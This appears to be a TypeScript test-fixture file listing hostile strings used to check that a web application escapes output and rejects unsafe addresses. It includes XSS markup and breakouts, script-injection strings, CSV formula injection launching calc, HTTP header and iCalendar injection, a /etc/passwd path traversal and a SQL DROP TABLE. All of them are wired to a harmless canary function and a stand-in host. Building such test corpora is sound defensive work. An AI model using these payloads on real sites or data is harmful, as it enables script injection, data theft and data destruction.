/**
 * Texts that would run scripts, load or open something of another site, or break what they are written into, wherever
 * they are not escaped for the place where they are shown. All of them call `canary`, ask for `CANARY_ORIGIN`, or leave
 * an element or attribute named `MARK`.
 */
export const CANARY_ORIGIN = "https://canary.example";
export const MARK = "x-canary";

const IMAGE = `<img ${MARK} src=x onerror=canary()>`;
const SCRIPT = `<script ${MARK}>canary()</script>`;

const MARKUP = [
  SCRIPT,
  `<ScRiPt ${MARK}>canary()</sCrIpT >`,
  `<script ${MARK} src="${CANARY_ORIGIN}/a.js"></script>`,
  `<script ${MARK} type=module>import("${CANARY_ORIGIN}/b.js")</script>`,
  `<${MARK}>element</${MARK}>`,
  IMAGE,
  `<img ${MARK} src="${CANARY_ORIGIN}/pixel.png">`,
  `<image ${MARK} src=x onerror=canary()>`,
  `<svg ${MARK} onload=canary()>`,
  `<svg ${MARK}><script>canary()</script></svg>`,
  `<svg ${MARK}><animate onbegin=canary() attributeName=x dur=1s></svg>`,
  `<svg ${MARK}><use href="data:image/svg+xml,<svg id='x' onload='canary()'/>#x"></use></svg>`,
  `<svg ${MARK}><foreignObject><body onload=canary()></foreignObject></svg>`,
  `<svg ${MARK}><a href="javascript:canary()"><text y=9>x</text></a></svg>`,
  `<math ${MARK} href="javascript:canary()"><mtext>x</mtext></math>`,
  `<math ${MARK}><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">`,
  `<iframe ${MARK} srcdoc="<script>parent.canary()</script>"></iframe>`,
  `<iframe ${MARK} src="javascript:canary()"></iframe>`,
  `<object ${MARK} data="data:text/html,<script>canary()</script>"></object>`,
  `<embed ${MARK} src="${CANARY_ORIGIN}/e.swf">`,
  `<base ${MARK} href="${CANARY_ORIGIN}/">`,
  `<meta ${MARK} http-equiv=refresh content="0;url=${CANARY_ORIGIN}/">`,
  `<link ${MARK} rel=stylesheet href="${CANARY_ORIGIN}/s.css">`,
  `<style ${MARK}>*{background:url(${CANARY_ORIGIN}/bg)}</style>`,
  `<form ${MARK} action="${CANARY_ORIGIN}/"><button>Pay</button></form>`,
  `<button ${MARK} form=x formaction="javascript:canary()">x</button>`,
  `<input ${MARK} autofocus onfocus=canary()>`,
  `<details ${MARK} open ontoggle=canary()><summary>x</summary></details>`,
  `<video ${MARK}><source onerror=canary()></video>`,
  `<audio ${MARK} src=x onerror=canary()>`,
  `<body ${MARK} onload=canary()>`,
  `<marquee ${MARK} onstart=canary()>x</marquee>`,
  `<a ${MARK} href="javascript:canary()">x</a>`,
  `<a ${MARK} href="java\tscript:canary()">x</a>`,
  `<template ${MARK} shadowrootmode=open><img src=x onerror=canary()></template>`,
  `<dialog ${MARK} open>${IMAGE}</dialog>`,
  `<noscript><p title="</noscript>${IMAGE}">`,
];

const BREAKOUTS = [
  `">${IMAGE}`,
  `'>${IMAGE}`,
  `"/>${SCRIPT}`,
  `" ${MARK} autofocus onfocus="canary()`,
  `' ${MARK} autofocus onfocus='canary()`,
  `\` ${MARK} autofocus onfocus=canary() `,
  ` ${MARK} onmouseover=canary() `,
  `" style="background:url(${CANARY_ORIGIN}/style)" ${MARK}="`,
  `--> ${IMAGE}`,
  `]]>${IMAGE}`,
  `</script>${SCRIPT}`,
  `</script ><svg ${MARK} onload=canary()>`,
  `<!--<script>${IMAGE}`,
  `</title>${IMAGE}`,
  `</textarea>${IMAGE}`,
  `</style>${IMAGE}`,
  `</noscript>${IMAGE}`,
  `</option></select>${IMAGE}`,
  `</template>${IMAGE}`,
  `</svg>${IMAGE}`,
  `</a><a ${MARK} href="${CANARY_ORIGIN}">x</a>`,
];

const CODE = [
  `"};canary();//`,
  `';canary();//`,
  `\\";canary();//`,
  "`;canary();//",
  "$" + "{canary()}",
  `{{constructor.constructor('canary()')()}}`,
  `{{name}} $t(errors:title) $t(common:canary, {"context":"x"})`,
  "<%= canary() %> #{canary()} [[$" + "{canary()}]]",
  `*/canary()/*`,
  `\u2028canary()//\u2029canary()//`,
  `\\u003cscript ${MARK}\\u003ecanary()\\u003c/script\\u003e`,
  `"}]}</script>${SCRIPT}<script type="application/ld+json">{"@graph":[{"name":"`,
  `","@type":"Thing","url":"javascript:canary()","x":"`,
  `__proto__`,
  `constructor`,
];

const ENCODED = [
  `&lt;img ${MARK} src=x onerror=canary()&gt;`,
  `&#60;img ${MARK} src=x onerror=canary()&#62;`,
  `&quot;&gt;${IMAGE}`,
  `&amp;lt;${MARK}&amp;gt;`,
  `&#x6A;avascript:canary()`,
  `%3Cimg ${MARK} src=x onerror=canary()%3E`,
  `+ADw-script ${MARK}+AD4-canary()+ADw-/script+AD4-`,
  `＜script ${MARK}＞canary()＜/script＞`,
];

const CHARACTERS = [
  `\u0000<\u0000img ${MARK} src=x onerror=canary()>\u0000`,
  `\u202Egpj.exe\u202C \u2066rtl\u2069 \u200F\u200E`,
  `\uFEFF\u200B\u00AD zero width`,
  `Z\u0310\u0353a\u0309\u0301l\u0315\u0303go \u{1F469}\u200D\u{1F469}\u200D\u{1F467}`,
  `\uD800 half of a pair`,
  `\u001B[2J\u0007\u0008\u007F`,
  `tab\tline\nreturn\r\nend\u0085\u000B\u000C`,
];

const FORMATS = [
  `red;background:url(${CANARY_ORIGIN}/css);x:expression(canary())`,
  `}*{background:url(javascript:canary())}`,
  `\r\nATTACH:${CANARY_ORIGIN}/ics\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:canary`,
  `;ALTREP="${CANARY_ORIGIN}/":x\\n\\,`,
  `\r\nSet-Cookie: canary=1\r\nLocation: ${CANARY_ORIGIN}/\r\n\r\n${SCRIPT}`,
  `=HYPERLINK("${CANARY_ORIGIN}/","x")`,
  `+cmd|' /C calc'!A0`,
  `) Tj ET /JS (app.launchURL("${CANARY_ORIGIN}/")) endobj (`,
  `../../../../etc/passwd%00`,
  `'; DROP TABLE orders; --`,
];

/** Texts that are dangerous where one begins with them: as an address. */
const ADDRESSES = [
  "javascript:canary()",
  "JaVaScRiPt:canary()",
  "java\nscript:canary()",
  "\u0001javascript:canary()",
  " javascript:canary()",
  "javascript://canary.example/%0Acanary()",
  "vbscript:canary()",
  `data:text/html,${SCRIPT}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='canary()'/>`,
  "blob:canary",
  "//canary.example/x",
  "\\\\canary.example\\x",
  "/\\canary.example/x",
  `${CANARY_ORIGIN}/x.png`,
  `${CANARY_ORIGIN}/"><img ${MARK} src=x onerror=canary()>`,
];

/** Many times what any name or address has. */
const LONG = [`${"W".repeat(1_000)}<${MARK}>`, `<b ${MARK}>`.repeat(60)];

/** Everything above; each is one attack. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...MARKUP,
  ...BREAKOUTS,
  ...CODE,
  ...ENCODED,
  ...CHARACTERS,
  ...FORMATS,
  ...ADDRESSES,
  ...LONG,
];

/** Those that an answer's field for a web address may hold: its schema accepts them. */
export const HOSTILE_WEB_ADDRESSES: readonly string[] = [
  `${CANARY_ORIGIN}/"><img ${MARK} src=x onerror=canary()>`,
  `${CANARY_ORIGIN}/'${MARK}='`,
  `${CANARY_ORIGIN}/?a=</script>${SCRIPT}`,
  `${CANARY_ORIGIN}/#javascript:canary()`,
];

/** Those that no field for a web address may hold. */
export const REFUSED_ADDRESSES: readonly string[] = ADDRESSES.filter((address) => !/^https?:/i.test(address));
